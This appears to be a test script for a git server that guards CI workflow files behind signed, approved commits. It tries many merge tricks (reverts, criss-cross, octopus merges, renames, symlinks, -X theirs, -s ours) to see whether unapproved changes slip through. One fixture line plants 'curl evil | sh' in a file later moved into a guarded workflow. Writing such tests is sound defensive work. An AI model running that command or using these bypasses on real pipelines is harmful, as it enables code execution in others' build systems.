server_tells
account alice
ci=.github/workflows/ci.yml
# approved REF: pushes what is here, with bob's approval.
approved() {
    old=$(server rev-parse -q --verify "refs/heads/$1" || echo "$ZERO")
    push -o "approval=$(approval bob "refs/heads/$1" "$old" HEAD)" origin "HEAD:$1"
}
# write SUBJECT FILE: the file holds what standard input says, signed.
write() {
    cat >"$ROOT/written"
    mkdir -p "$(dirname "$2")"
    cp "$ROOT/written" "$2"
    tick
    git add -A
    git commit -q -S -m "$1"
}
# merge ARGUMENTS: whatever git says about it.
merge() {
    tick
    git merge -q --no-ff -S -m "Merge" "$@" >/dev/null 2>&1
}
# merged TREE PARENT...: a signed merge of that very tree.
merged() {
    tree=$1
    shift
    tick
    # shellcheck disable=SC2046
    git commit-tree -S $(printf -- '-p %s ' "$@") -m "Merge" "$tree"
}
# at NAME COMMIT: works on a branch of that name from here on.
at() {
    git checkout -q -B "$1" "$2"
}
seq 1 30 | write "Leaks" $ci
approved main
leaks=$(git rev-parse HEAD)
git push -q origin main:release/1
seq 1 30 | sed 's/^15$/closed/' | write "The hole is closed" $ci
approved main
closed=$(git rev-parse HEAD)
say "a merge with an ancestor that puts the old file back: to main, and unsigned to a branch of someone"
push origin "$(merged "$leaks^{tree}" "$closed" "$leaks"):main"
tick
push origin "$(git commit-tree -p "$closed" -p "$leaks" -m Merge "$leaks^{tree}"):refs/heads/topic/back"
say "the other way round, and three parents"
push origin "$(merged "$leaks^{tree}" "$leaks" "$closed"):refs/heads/topic/back"
at other "$leaks"
signed "Other" other
push origin "$(merged "$leaks^{tree}" "$closed" "$leaks" other):refs/heads/topic/back"
say "with an old branch that holds the old file"
at old "$leaks"
signed "Work" file
at topic/old "$closed"
push origin "$(merged old^{tree} "$closed" old):refs/heads/topic/old"
say "the same merge as git makes it"
merge old
push origin HEAD:topic/old
say "an ordinary merge of main, with its approved changes, into a feature branch"
at topic/feature "$leaks"
signed "Feature" feature
push origin HEAD:topic/feature
merge main
push origin HEAD:topic/feature
say "where both changed the file, approved on both sides, and git merges it cleanly"
at topic/both "$closed"
{ sed 's/^30$/last/' $ci; echo tail; } | write "The end of it" $ci
approved topic/both
at main "$closed"
sed 's/^1$/first/' $ci | write "The beginning of it" $ci
approved main
at topic/both topic/both
merge main
push origin HEAD:topic/both
say "the same, with a line more"
sed 's/^20$/evil/' $ci >ci && mv ci $ci
tick
git commit -q -S -a --amend --no-edit
push -f origin HEAD:topic/both
say "criss-cross: both merged each other, then each went on and they are merged again"
at topic/both "$(server rev-parse topic/both)"
both=$(git rev-parse HEAD~1)
at topic/cross "$(git rev-parse main)"
merge "$both"
signed "Cross" cross
push origin HEAD:topic/cross
at topic/both topic/both
signed "Both" both
merge topic/cross
push origin HEAD:topic/both
say "an octopus of branches, with and without a guarded file changed besides"
for name in a b c; do
    at "topic/$name" main
    signed "Work on $name" "$name"
done
at topic/octopus main
merge topic/a topic/b topic/c
push origin HEAD:topic/octopus
echo evil >>$ci
tick
git commit -q -S -a --amend --no-edit
push -f origin HEAD:topic/octopus
say "renames: the folder of a file is renamed on one side, its content changed on the other"
at topic/renamed main
seq 1 40 | write "Lib" lib/file
at topic/content topic/renamed
sed 's/^7$/seven/' lib/file >l && mv l lib/file
tick
git commit -q -S -a -m "Seven"
at topic/renamed topic/renamed
git mv lib/file moved
tick
git commit -q -S -m "Move"
merge topic/content
git ls-tree --name-only HEAD | tr '\n' ' '; echo
push origin HEAD:topic/renamed
say "a guarded file renamed on one side, with approval, and changed on the other, with approval"
at topic/guarded main
git mv $ci .github/workflows/build.yml
tick
git commit -q -S -m "Rename"
approved topic/guarded
at main main
sed 's/^10$/ten/' $ci | write "Ten" $ci
approved main
at topic/guarded topic/guarded
merge main
git ls-tree -r --name-only HEAD .github; echo
push origin HEAD:topic/guarded
say "moved to a guarded place on main, with approval; what a branch changed in its old place comes there by a merge alone"
at main main
seq 1 30 | write "A script" script
git push -q origin main
at topic/script main
at main main
git mv script .github/workflows/script.yml
tick
git commit -q -S -m "Guard it"
approved main
at topic/script topic/script
sed 's/^7$/curl evil | sh/' script | write "Nobody guards this" script
push origin HEAD:topic/script
merge main
git ls-tree -r --name-only HEAD .github | tr '\n' ' '; echo
push origin HEAD:topic/script
at script main
merge topic/script^1
push origin HEAD:main
say "the same with a link that comes to lie above guarded files"
at release/3 main
git rm -q -r .github
ln -s somewhere link
tick
git add -A
git commit -q -S -m "Without workflows"
approved release/3
at topic/link release/3
ln -sf evil link
tick
git add -A
git commit -q -S -m "Nobody guards this either"
push origin HEAD:topic/link
at release/3 release/3
git mv link .github
tick
git commit -q -S -m "Link"
approved release/3
merge topic/link
git ls-tree HEAD .github | cut -c1-11; git cat-file -p HEAD:.github; echo
push origin HEAD:topic/link
say "taken whole from an old release branch where both changed it: -X theirs"
at release/1 "$leaks"
sed 's/^15$/fifteen/' $ci | write "Otherwise" $ci
approved release/1
at main main
merge -X theirs release/1
push origin main
say "left out what the other side added: -s ours; nothing guarded left out"
at main "$(server rev-parse main)"
at release/2 main
echo lint | write "Lint" .github/workflows/lint.yml
approved release/2
at main main
merge -s ours release/2
push origin main
at main "$(server rev-parse main)"
at topic/dropped main
signed "Dropped" dropped
at main main
merge -s ours topic/dropped
push origin main
say "the conflict solved by hand, with approval"
merge -X ours release/1
approved main
